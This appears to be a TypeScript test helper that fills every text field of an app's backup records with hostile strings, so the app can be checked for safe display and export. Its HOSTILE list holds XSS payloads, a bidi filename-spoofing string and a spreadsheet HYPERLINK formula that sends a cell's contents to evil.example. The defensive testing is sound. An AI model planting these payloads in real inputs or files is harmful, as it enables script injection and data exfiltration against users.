import { KINDS, type Kind } from '../../src/domain/records.ts';
import type { BackupRow } from '../../src/formats/backup.ts';
import { isRecord } from '../../src/storage/records.ts';
import { FULL_RECORDS } from '../fixtures/full-records.ts';

/** Texts that do harm where they are taken for anything but text. */
export const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '"><script>alert(1)</script>',
  '=HYPERLINK("https://evil.example/?a="&A1,"x")',
  '\u202Egpj.exe\u202C \u2066x',
  'data:text/html,<script>alert(1)</script>',
];

type Path = readonly (string | number)[];

/** What hides a record from the pages that show it. */
const HIDING = ['deletedAt', 'mergedInto', 'archivedOn', 'closedOn', 'snoozedUntil', 'pauses'];
/** What ties records together: with another text nothing would be shown of the tie. */
const TIE = /^id$|Ids?$|^with$|^between$|^namesakes$|^seat$|^recordKey$/;
/** Fields whose own names come from the visitor's records. */
const KEYED = ['checkIns', 'answers', 'reflections', 'rests'];

/** The people who carry one of the texts in every field that may hold it. */
export const WHOLE_PEOPLE = HOSTILE.map((_, index) => `contact-${index}`);

/** Every kind with every text in all fields at once, and every field of every kind in turn. */
export function hostileRows(): BackupRow[] {
  const rows = KINDS.flatMap((kind) => [
    ...HOSTILE.map((text, index) => wholeRow(kind, text, index)),
    ...rowsInTurn(kind),
  ]);
  // Of kinds with one record the first is kept: the one that is hostile as a whole.
  return [...new Map([...rows].reverse())];
}

function wholeRow(kind: Kind, text: string, index: number): BackupRow {
  const key = (record: object) => `${kind}:${String(valueAt(record, ['id']))}`;
  let record: object = visible(kind);
  const id = String(valueAt(record, ['id']));
  if (id.endsWith('-0')) record = withValue(record, ['id'], id.replace(/0$/, String(index)));
  for (const path of textPaths(record)) {
    if (path.some((name) => TIE.test(String(name)))) continue;
    const next = withValue(record, path, text);
    if (isRecord(key(next), next)) record = next;
  }
  return [key(record), record];
}

function rowsInTurn(kind: Kind): BackupRow[] {
  const full = FULL_RECORDS[kind];
  const inTurn = [
    ...textPaths(full),
    ...KEYED.filter((name) => name in full).map((name) => [name]),
  ];
  return inTurn.map((path, index) => {
    const text = HOSTILE[index % HOSTILE.length] ?? '';
    const start = path[0] && HIDING.includes(String(path[0])) ? full : visible(kind);
    const own = withValue(start, ['id'], `${kind}-turn-${index}`);
    const value =
      path.length === 1 && KEYED.includes(String(path[0])) ? keyed(own, path, text) : text;
    const record = withValue(own, path, value);
    return [`${kind}:${String(valueAt(record, ['id']))}`, record];
  });
}

function keyed(record: object, path: Path, text: string): object {
  const entries = Object.entries(Object(valueAt(record, path)));
  return Object.fromEntries([...entries, [text, entries[0]?.[1]]]);
}

function visible(kind: Kind): object {
  const shown = Object.entries(FULL_RECORDS[kind]).filter(([name]) => !HIDING.includes(name));
  return Object.fromEntries(shown);
}

function textPaths(value: unknown, path: Path = []): Path[] {
  if (typeof value === 'string') return [path];
  if (Array.isArray(value))
    return value.flatMap((item, index) => textPaths(item, [...path, index]));
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) => textPaths(inner, [...path, name]));
}

function valueAt(value: unknown, path: Path): unknown {
  return path.reduce<unknown>((inner, name) => Object(inner)[name], value);
}

function withValue<T extends object>(value: T, path: Path, next: unknown): T {
  const copy = structuredClone(value);
  const inner = Object(valueAt(copy, path.slice(0, -1)));
  inner[path.at(-1) ?? ''] = next;
  return copy;
}
